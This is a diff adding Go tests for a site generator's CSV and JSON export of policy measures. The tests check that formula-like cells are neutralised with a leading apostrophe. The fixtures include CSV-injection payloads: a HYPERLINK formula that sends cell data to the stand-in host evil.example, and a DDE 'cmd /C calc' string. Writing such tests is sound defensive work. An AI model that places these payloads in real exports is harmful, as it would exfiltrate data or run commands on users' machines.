@@ -121,3 +121,77 @@ func mapsEqual(a, b map[string]string) bool {
 	}
 	return true
 }
+
+// TestCSVFormulaCells builds measures whose texts a spreadsheet would run
+// as formulas: in measures.csv each such cell starts with ', which makes it
+// text; measures.json keeps the texts as written.
+func TestCSVFormulaCells(t *testing.T) {
+	const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"點擊")`
+	tree := sourceTree(t, false, map[string]string{
+		"content/measures/01.md": "+++\nnumber = 1\ntitle = '" + hyperlink + "'\ncategory = \"investment\"\n" +
+			"lead_units = [\"市政務辦\"]\nscope = \"-市有關行政區\"\n+++\n\n@SUM(1+1)*cmd|' /C calc'!A0\n",
+		"content/measures/02.md": "+++\nnumber = 2\ntitle = \"+1 加一\"\ncategory = \"trade\"\n" +
+			"lead_units = [\"廣州海關\"]\nscope = \"\\t=1+1\"\n+++\n\n正文不以公式開頭,=1 在中間。\n",
+	})
+	toml := string(tree["site.toml"].Data)
+	if !strings.Contains(toml, `name = "投資便利化"`) {
+		t.Fatal(`site.toml has no category name = "投資便利化"`)
+	}
+	tree["site.toml"].Data = []byte(strings.Replace(toml, `name = "投資便利化"`, `name = "=投資便利化"`, 1))
+	files := readTree(t, buildTree(t, writeTree(t, tree)))
+
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(files[CSVPath], []byte(bom)))).ReadAll()
+	if err != nil {
+		t.Fatalf("measures.csv: %v", err)
+	}
+	want := [][]string{
+		{"1", "'=投資便利化", "'" + hyperlink, "'@SUM(1+1)*cmd|' /C calc'!A0", "市政務辦", "'-市有關行政區"},
+		{"2", "貿易便利化", "'+1 加一", "正文不以公式開頭,=1 在中間。", "廣州海關", "'\t=1+1"},
+	}
+	if len(rows) != 3 {
+		t.Fatalf("measures.csv: %d rows, want a header and 2", len(rows))
+	}
+	for i, w := range want {
+		if !slices.Equal(rows[i+1], w) {
+			t.Errorf("measures.csv row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
+		}
+	}
+
+	var data struct {
+		Measures []struct {
+			Title, Scope, Content string
+			Category              struct{ Name string }
+		}
+	}
+	if err := json.Unmarshal(files[JSONPath], &data); err != nil {
+		t.Fatalf("measures.json: %v", err)
+	}
+	m := data.Measures[0]
+	if m.Title != hyperlink || m.Scope != "-市有關行政區" || m.Content != "@SUM(1+1)*cmd|' /C calc'!A0" || m.Category.Name != "=投資便利化" {
+		t.Errorf("measures.json changed the texts: %+v", m)
+	}
+	if m := data.Measures[1]; m.Title != "+1 加一" || m.Scope != "\t=1+1" {
+		t.Errorf("measures.json changed the texts: %+v", m)
+	}
+}
+
+func TestTextCell(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"", ""},
+		{"報關單", "報關單"},
+		{"=1+1", "'=1+1"},
+		{"+1", "'+1"},
+		{"-1", "'-1"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"'=1", "'=1"}, // a leading ' already makes it text
+		{"1=1", "1=1"},
+		{" =1", " =1"},
+	}
+	for _, tt := range tests {
+		if got := textCell(tt.in); got != tt.want {
+			t.Errorf("textCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
